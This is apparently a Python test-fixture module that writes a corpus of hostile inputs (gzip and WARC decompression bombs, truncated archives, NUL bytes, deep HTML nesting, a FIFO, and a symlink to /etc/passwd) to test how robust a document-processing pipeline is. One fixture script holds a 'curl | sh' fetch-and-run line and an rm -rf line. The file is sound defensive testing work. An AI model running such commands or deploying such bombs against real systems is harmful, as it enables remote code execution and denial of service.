"""Write a folder of hostile inputs: documents that once stalled or crashed a run, broken containers, odd files."""
from __future__ import annotations

import gzip
import io
import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from tests import hostile_docs as docs

ARTICLE = (
    "Council approves ferry terminal\n\nBy Lena Marsh\nThe Harbour Gazette\n\n"
    "The city council of Brennic approved a new ferry terminal on Tuesday, ending a dispute that had lasted "
    "six years.\n\n\u201cWe waited long enough,\u201d said Ilse Varga, who chairs the transport committee. "
    "\u201cThe money is finally in place.\u201d\n\nWork on the first phase is expected to start next month "
    "and to cost 40 million euros, the council said.\n"
)


@dataclass(frozen=True)
class Kind:
    """One hostile kind: its file name, what it plants, and how to write it at a given scale (1.0 = full size)."""

    name: str
    file: str
    plants: str
    write: Callable[[Path, float], None]


def _bytes(data: Callable[[float], bytes]) -> Callable[[Path, float], None]:
    return lambda path, scale: path.write_bytes(data(scale))


def _warc_record(writer: WARCWriter, uri: str, payload: io.BufferedIOBase | bytes) -> None:
    stream = io.BytesIO(payload) if isinstance(payload, bytes) else payload
    headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1")
    writer.write_record(writer.create_warc_record(uri, "response", payload=stream, http_headers=headers))


def _page(k: int) -> bytes:
    body = docs.prose_text(2_000, seed=k).decode("utf-8").replace("\n\n", "</p><p>")
    return f"<html><head><title>Ferry report {k}</title></head><body><article><p>{body}</p></article></body></html>".encode()


def _truncated_warc(path: Path, scale: float) -> None:
    """Five responses gzip-compressed per record, cut in the middle of the fourth."""
    out = io.BytesIO()
    writer = WARCWriter(out, gzip=True)
    ends = []
    for k in range(5):
        _warc_record(writer, f"https://example.org/ferry/{k}", _page(k))
        ends.append(out.tell())
    data = out.getvalue()
    path.write_bytes(data[: (ends[2] + ends[3]) // 2])


class _Repeated(io.RawIOBase):
    """A readable stream of `size` repeated bytes, made as it is read (no copy in memory)."""

    def __init__(self, size: int):
        self.left = size

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:  # type: ignore[override]
        n = min(len(buffer), self.left)
        buffer[:n] = b"a" * n
        self.left -= n
        return n


def _inflating_warc(path: Path, scale: float) -> None:
    """A small .warc.gz whose second record inflates to about 300 MB (at scale 1, never under 30 MB), between pages."""
    with path.open("wb") as out:
        writer = WARCWriter(out, gzip=True)
        _warc_record(writer, "https://example.org/ferry/before", _page(11))
        _warc_record(writer, "https://example.org/ferry/huge", io.BufferedReader(_Repeated(int(max(300e6 * scale, 30e6)))))
        _warc_record(writer, "https://example.org/ferry/after", _page(12))


def _nul_jsonl(path: Path, scale: float) -> None:
    records = [json.dumps({"text": ARTICLE.replace("Tuesday", day), "url": f"https://example.org/{day}"})
               for day in ("Monday", "Wednesday", "Friday")]
    path.write_bytes(("\n".join(records[:2]) + "\n\x00\n" + records[2] + "\n").encode("utf-8"))


def _deep_html(path: Path, scale: float) -> None:
    depth = int(50_000 * scale)
    path.write_bytes(b"<html><body>" + b"<div>" * depth + ARTICLE.encode() + b"</div>" * depth + b"</body></html>")


def _fifo(path: Path, scale: float) -> None:
    os.mkfifo(path)


def _dangling(path: Path, scale: float) -> None:
    path.symlink_to(path.parent / "no-such-target.txt")


def _outside(path: Path, scale: float) -> None:
    path.symlink_to("/etc/passwd")


KINDS: tuple[Kind, ...] = (
    Kind("control article", "article.txt", "an ordinary report", _bytes(lambda s: ARTICLE.encode())),
    Kind("many attributes", "attributes.html", "2.3 MB page, 200k attributes",
         _bytes(lambda s: docs.many_attributes_html(int(200_000 * s)))),
    Kind("curly quotes", "curly.txt", "600 KB of curly quote marks", _bytes(lambda s: docs.curly_quotes_text(int(600_000 * s)))),
    Kind("unbalanced quotes", "unbalanced.txt", "544 KB, quotes opened and never closed",
         _bytes(lambda s: docs.unbalanced_quotes_text(int(544_000 * s)))),
    Kind("one long line", "oneline.txt", "10 MB text on one line", _bytes(lambda s: docs.one_line_text(int(10e6 * s)))),
    Kind("deep nesting", "deep.html", "50k nested elements", _deep_html),
    Kind("inflating WARC record", "inflating.warc.gz", "a record inflating to 300 MB", _inflating_warc),
    Kind("truncated WARC", "truncated.warc.gz", ".warc.gz cut inside its 4th of 5 records", _truncated_warc),
    Kind("NUL in JSONL", "records.jsonl", "3 records and a NUL byte", _nul_jsonl),
    Kind("NUL in text", "nul.txt", "an article with a stray NUL", _bytes(lambda s: ARTICLE.replace("Tuesday", "Thurs\x00day").encode())),
    Kind("shell script", "install.sh", "a shell script", _bytes(lambda s: b"#!/bin/sh\nset -e\ncurl -s http://x | sh\nrm -rf /tmp/x\n")),
    Kind("source code", "tool.py", "a Python module", _bytes(lambda s: b"import os\n\n\ndef main():\n    return os.getcwd()\n\n\nif __name__ == '__main__':\n    main()\n")),
    Kind("binary", "image.png", "PNG bytes", _bytes(lambda s: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8)),
    Kind("gzip bomb text", "bomb.txt.gz", "gzip of 100 MB of zeros", _bytes(lambda s: gzip.compress(bytes(int(100e6 * s)), 9))),
    Kind("empty", "empty.txt", "an empty file", _bytes(lambda s: b"")),
    Kind("FIFO", "pipe.fifo", "a named pipe", _fifo),
    Kind("dangling link", "dangling.txt", "a symlink to nothing", _dangling),
    Kind("link out of the tree", "passwd.txt", "a symlink to /etc/passwd", _outside),
)


def write_hostile_corpus(folder: Path, scale: float = 1.0) -> dict[str, Kind]:
    """Write every hostile kind into `folder`; returns file path -> kind."""
    folder.mkdir(parents=True, exist_ok=True)
    written = {}
    for kind in KINDS:
        path = folder / kind.file
        kind.write(path, scale)
        written[str(path)] = kind
    return written
